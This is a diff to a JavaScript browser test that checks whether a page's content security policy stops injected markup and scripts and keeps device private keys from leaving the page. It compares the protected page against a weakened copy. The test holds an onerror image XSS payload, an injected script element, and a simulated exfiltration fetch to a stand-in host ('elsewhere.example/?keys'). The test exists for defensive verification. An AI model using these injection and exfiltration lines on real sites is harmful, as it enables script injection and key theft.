@@ -52,8 +52,42 @@ async function plunder() {
   return { keys, control: await tries(open.privateKey), signature, bytes: JSON.stringify(member).length };
 }
 
+/** What a script tries that has to slip in first, and then to send something away. Runs in the page. */
+async function slip(elsewhere) {
+  const out = {};
+  try {
+    document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.stolen = 1">');
+    out.markup = 'taken';
+  } catch (error) {
+    out.markup = error.name;
+  }
+  try {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.ran = 1';
+    document.head.append(script);
+    out.script = 'taken';
+  } catch (error) {
+    out.script = error.name;
+  }
+  out.away = await fetch(elsewhere).then(
+    () => 'sent',
+    (error) => error.name,
+  );
+  for (const end = Date.now() + 500; globalThis.stolen === undefined && Date.now() < end; ) {
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+  return { ...out, stolen: globalThis.stolen ?? 0, ran: globalThis.ran ?? 0 };
+}
+
+/** Tells what an attack got, what the same tries got without the check, and whether what is right works. */
+const tell = (attack, got, without, works) => console.log(`crime: ${JSON.stringify({ attack, got, without, works })}`);
+
+/** What went through of what a script tried. */
+const through = ({ markup, script, away, stolen, ran }) =>
+  Object.entries({ markup: markup === 'taken' && stolen === 1, script: script === 'taken' && ran === 1, away: away === 'sent' }).flatMap(([what, done]) => (done ? [what] : []));
+
 test('a hostile script in the page', async (t) => {
-  const { LINK, OUT } = process.env;
+  const { LINK, OUT, WEAK, ELSEWHERE } = process.env;
   const step = steps(t);
   const who = await somebody(join(OUT, 'browser'), 'en');
   const { page } = who;
@@ -63,6 +97,7 @@ test('a hostile script in the page', async (t) => {
     await step('no key of the device leaves it', async () => {
       const { keys, control, signature } = await page.evaluate(plunder);
       assert.deepEqual(Object.keys(keys).sort(), ['mlkem', 'signing', 'x25519']);
+      tell("a script in the page carries the device's keys away", Object.values(keys).flatMap((one) => one.got), control, signature === 64);
       for (const [name, { type, extractable, got }] of Object.entries(keys)) {
         assert.deepEqual({ type, extractable, got }, { type: 'private', extractable: false, got: [] }, name);
       }
@@ -72,30 +107,15 @@ test('a hostile script in the page', async (t) => {
     });
 
     await step('markup that was slipped in runs nothing, and nothing is sent elsewhere', async () => {
-      const done = await page.evaluate(async () => {
-        const out = {};
-        try {
-          document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.stolen = 1">');
-          out.markup = 'taken';
-        } catch (error) {
-          out.markup = error.name;
-        }
-        try {
-          const script = document.createElement('script');
-          script.textContent = 'globalThis.stolen = 1';
-          document.head.append(script);
-        } catch (error) {
-          out.script = error.name;
-        }
-        out.away = await fetch('https://elsewhere.example/?keys').then(
-          () => 'sent',
-          (error) => error.name,
-        );
-        await new Promise((resolve) => setTimeout(resolve, 300));
-        out.stolen = globalThis.stolen ?? 0;
-        return out;
-      });
-      assert.deepEqual(done, { markup: 'TypeError', script: 'TypeError', away: 'TypeError', stolen: 0 });
+      const done = await page.evaluate(slip, ELSEWHERE);
+      const stands = (await page.locator('nav').count()) > 0;
+      assert.deepEqual(done, { markup: 'TypeError', script: 'TypeError', away: 'TypeError', stolen: 0, ran: 0 });
+      // The same page without its policy: all of it works.
+      await page.goto(WEAK);
+      await page.locator('h1').first().waitFor();
+      const weak = await page.evaluate(slip, ELSEWHERE);
+      tell('a script is slipped into the page and sends something away', through(done), through(weak), stands);
+      assert.deepEqual(weak, { markup: 'taken', script: 'taken', away: 'sent', stolen: 1, ran: 1 });
     });
   } finally {
     await who.close();
